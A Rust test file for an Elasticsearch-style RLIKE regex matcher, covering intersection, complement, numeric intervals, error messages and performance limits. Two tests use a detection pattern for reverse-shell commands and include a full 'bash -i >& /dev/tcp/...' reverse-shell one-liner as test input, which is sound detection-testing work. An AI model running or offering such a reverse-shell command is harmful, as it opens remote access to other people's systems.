//! RLIKE matching through both back ends.

use super::*;

fn matcher(p: &str) -> TextMatcher {
    compile_rlike(p).unwrap()
}

fn is_automaton(p: &str) -> bool {
    matches!(matcher(p), TextMatcher::Automaton { .. })
}

/// Asserts `p` matches exactly the `yes` strings among `yes` and `no`.
fn check(p: &str, yes: &[&str], no: &[&str]) {
    let m = matcher(p);
    for s in yes {
        assert!(m.is_match(s), "{p} should match {s:?}");
    }
    for s in no {
        assert!(!m.is_match(s), "{p} should not match {s:?}");
    }
}

#[test]
fn intersection() {
    assert!(is_automaton(".*a.*&.*b.*"));
    check(".*a.*&.*b.*", &["ab", "ba", "xaxbx"], &["aa", "", "b"]);
    check("a&b", &[], &["a", "b", "ab", ""]);
    check("[a-z]+&...", &["abc"], &["ab", "abcd", "ab1"]);
}

#[test]
fn complement() {
    check("~a", &["", "b", "aa", "ab"], &["a"]);
    check("~(.*secret.*)", &["public", ""], &["a secret b", "secret"]);
    check("~ab", &["b", "xb", "aab"], &["ab", "a"]);
    check(".*&~(.*x.*)", &["abc"], &["axc"]);
    check("~@", &[], &["", "a"]);
    check("~#", &["", "anything"], &[]);
}

#[test]
fn hunt_alternatives_with_intersection_are_empty() {
    let p = ".*(/dev/tcp/|bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|mkfifo).*";
    // The intersections are provably empty, so the pattern stays on `regex`.
    assert!(!is_automaton(p));
    check(
        p,
        &["bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "x mkfifo y"],
        // Lucene reads `bash\s+-i\s+>&|0>&1` as "bash… >" & "|0>" & "1":
        // nothing matches those alternatives on their own.
        &["bash -i >&", "bash -i >", "0>&1", "sh 0>&1 x", ">& /tmp"],
    );
}

/// Patterns and inputs on which the automaton built straight from the
/// parse (no simplification, no `regex`) must agree with `compile_rlike`.
#[test]
fn both_back_ends_agree() {
    let patterns = [
        ".*(/dev/tcp/|bash\\s+-i\\s+>&|0>&1|mkfifo).*",
        "a.c",
        "[^a-c]x?",
        "(ab|a)*b{1,2}",
        "\\d+\\.\\d*",
        "@x#|y",
        "\"q\"\\s\\W",
        ".{2,3}",
    ];
    let inputs = [
        "",
        "a",
        "abc",
        "axc",
        "dx",
        "d",
        "abab",
        "abb",
        "ab",
        "12.",
        "1.5",
        "zx",
        "y",
        "q !",
        "q a",
        "xy",
        "xyz",
        "wxyz",
        "bash -i >& /dev/tcp/x",
        "0>&1",
        "mkfifo",
    ];
    for p in patterns {
        let fast = matcher(p);
        let dfa = Dfa::build(&lucene::parse(p).unwrap()).unwrap();
        for s in inputs {
            assert_eq!(fast.is_match(s), dfa.is_match(s), "{p} on {s:?}");
        }
    }
}

#[test]
fn regex_path_follows_lucene_syntax() {
    assert!(!is_automaton("a.c"));
    check("@", &["", "x\ny"], &[]);
    check("#", &[], &["", "a"]);
    check("#|a", &["a"], &[""]);
    check("#*x", &["x"], &["", "#x"]);
    check("\\s", &[" ", "\t", "\n", "\r"], &["\u{b}", "\u{c}", "x"]);
    check("\\w+", &["a_Z9"], &["é"]);
    check("[^a-c]", &["d", "é"], &["a", "", "dd"]);
    check("\\D\\S\\W", &["a!?"], &["1!?", "a ?", "a!b"]);
    check("a{2,3}", &["aa", "aaa"], &["a", "aaaa"]);
    check("\"a.b\"+", &["a.b", "a.ba.b"], &["axb"]);
    check("().", &["x"], &[""]);
    check("^a$", &["^a$"], &["a"]);
    check("\\\\", &["\\"], &["\\\\"]);
}

#[test]
fn numeric_intervals() {
    assert!(is_automaton("<1-100>"));
    check(
        "<1-100>",
        &["1", "42", "100", "007", "0100"],
        &["0", "101", "", "1a"],
    );
    check("<05-20>", &["05", "12", "20"], &["5", "21", "004", "100"]);
    check("<0-0>", &["0"], &["1", ""]);
    check("x<10-9>", &["x9", "x10", "x0009"], &["x8", "x11"]);
}

#[test]
fn named_automaton_is_not_found() {
    assert_eq!(
        compile_rlike("<host>").unwrap_err().to_string(),
        "Invalid regex pattern for RLIKE [<host>]: ['host' not found]"
    );
}

#[test]
fn syntax_errors_use_elasticsearch_wording() {
    assert_eq!(
        compile_rlike("a&").unwrap_err().to_string(),
        "Invalid regex pattern for RLIKE [a&]: [unexpected end-of-string]"
    );
}

#[test]
fn too_many_states_is_an_error() {
    // The complement forces determinising a language whose minimal DFA
    // needs 2^16 states.
    let p = "~(.*a.{15})";
    assert_eq!(
        compile_rlike(p).unwrap_err().to_string(),
        "Determinizing ~(.*a.{15}) would require more than 10000 effort."
    );
    // The same shape with a short tail fits.
    check("~(.*a.{3})", &["aaa", "bbbbb"], &["abbb", "xxabbb"]);
}

#[test]
fn huge_repetitions_fall_back_or_fail_quickly() {
    let m = matcher("a{5000}");
    assert!(m.is_match(&"a".repeat(5000)));
    assert!(!m.is_match(&"a".repeat(4999)));
    let started = std::time::Instant::now();
    assert!(compile_rlike("(a{1,1000}){1,1000}").is_err());
    assert!(compile_rlike("(a?){1000000}&b").is_err());
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
}

#[test]
fn matching_is_linear() {
    let m = matcher(".*a.*&.*b.*&~(.*cd.*)");
    let long: String = "xyz".repeat(100_000) + "ab";
    let started = std::time::Instant::now();
    assert!(m.is_match(&long));
    assert!(!m.is_match(&(long.clone() + "cd")));
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
}
